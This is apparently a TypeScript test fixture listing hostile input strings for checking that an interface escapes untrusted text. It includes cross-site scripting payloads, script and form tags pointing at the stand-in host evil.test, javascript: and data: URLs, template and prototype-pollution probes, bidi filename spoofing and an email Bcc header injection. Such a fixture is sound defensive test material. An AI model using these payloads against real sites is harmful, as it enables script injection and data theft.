/** Texts that somebody else has written, to do harm: what is sent, and what is seen where it stands on one line. */
export interface Hostile {
  payload: string;
  /** Where it differs from what was sent. */
  seen?: string;
}

/** Markup, templates and what ends an attribute: all of it is text (B01, B02). */
const MARKUP = [
  '<img src=x onerror="window.hacked=1">',
  '<img src=x onerror=window.hacked=1 //',
  '<svg onload="window.hacked=1">',
  '<svg><script>window.hacked=1</script></svg>',
  '<script>window.hacked=1</script>',
  '</script><script>window.hacked=1</script>',
  '<script src="https://evil.test/x.js"></script>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<iframe src="javascript:parent.hacked=1"></iframe>',
  '<object data="javascript:window.hacked=1"></object>',
  '<embed src="https://evil.test">',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<style>*{display:none}</style>',
  '<form action="https://evil.test"><input name="password"></form>',
  '<a href="javascript:window.hacked=1">click</a>',
  '<details open ontoggle="window.hacked=1">',
  '<input autofocus onfocus="window.hacked=1">',
  '<video><source onerror="window.hacked=1"></video>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>',
  '<template><img src=x onerror=window.hacked=1></template>',
  '<slot name="contact">',
  '<dialog open>',
  '</textarea><img src=x onerror=window.hacked=1>',
  '</option></select><img src=x onerror=window.hacked=1>',
  '"><img src=x onerror=window.hacked=1>',
  '\' onmouseover=\'window.hacked=1',
  '" style="position:fixed;inset:0',
  '<!--?lit$1$-->',
  '<!--',
  '-->',
  '<?lit$0123456789$>',
  '<![CDATA[x]]>',
  '${7*7}',
  '{{7*7}}',
  '#{7*7}',
  '{name}',
  '{ago} {by} {constructor}',
  '%s%d%n',
  '&lt;b&gt; &amp; &#60;i&#62;',
  'Escalation Owner',
  '__proto__',
  'constructor',
  'toString',
]; // prettier-ignore

/** Addresses: a link only where it is one of ours, and never by what somebody has written (B05). */
const ADDRESSES = [
  'javascript:window.hacked=1',
  'JaVaScRiPt:window.hacked=1',
  'javascript://%0awindow.hacked=1',
  'data:text/html,<script>parent.hacked=1</script>',
  'vbscript:x',
  'blob:https://a.test/b',
  'file:///etc/passwd',
  'filesystem:x',
  'intent://x',
  'ws://a.test',
  'view-source:x',
  'about:blank',
  '//evil.test',
  '/rel',
  '\\\\evil.test\\x',
  'http:evil',
  'https:///evil.test',
  'feed:javascript:1',
  'jar:javascript:1',
  'http://user:pass@evil.test',
  'https://good.test@evil.test',
  'https://\u0430pple.com',
];

const escaped = (code: number) => `⟨U+${code.toString(16).toUpperCase()}⟩`;
/** What turns text around is shown, in a line (B06). */
const BIDI = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069].map((code) => ({
  payload: `Owner${String.fromCharCode(code)}gpj.exe`,
  seen: `Owner${escaped(code)}gpj.exe`,
}));

/** What nobody sees stays what it is: some languages need it. */
const INVISIBLE = [
  'a\u200bb', 'a\u200cb', 'a\u200db', 'a\u200eb', 'a\u200fb', 'a\u2060b', 'a\u061cb', 'a\u00adb', 'a\u3164b',
  'a\u{e0041}\u{e0042}b', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
]; // prettier-ignore

/** What no screen can show is dropped, replaced, or a space (B08, B10). */
const BROKEN: Hostile[] = [
  { payload: 'java\nscript:1', seen: 'java script:1' },
  { payload: 'java\tscript:1', seen: 'java script:1' },
  { payload: '\u0001javascript:1', seen: 'javascript:1' },
  { payload: 'a\u0000b', seen: 'ab' },
  { payload: 'a\u0007b', seen: 'ab' },
  { payload: '\u001b[31mred\u001b[0m', seen: '[31mred[0m' },
  { payload: 'a\u009b31mb', seen: 'a31mb' },
  { payload: 'a\u2028b\u2029c', seen: 'a b c' },
  { payload: 'high \ud83d', seen: 'high \ufffd' },
  { payload: '\ude00 low', seen: '\ufffd low' },
  { payload: `Z${'\u0301'.repeat(50)}`, seen: `Z${'\u0301'.repeat(8)}` },
  { payload: 'Subject\r\nBcc: x@evil.test', seen: 'Subject Bcc: x@evil.test' },
];

export const hostile: Hostile[] = [
  ...[...MARKUP, ...ADDRESSES, ...INVISIBLE].map((payload) => ({ payload })),
  ...BIDI,
  ...BROKEN,
];
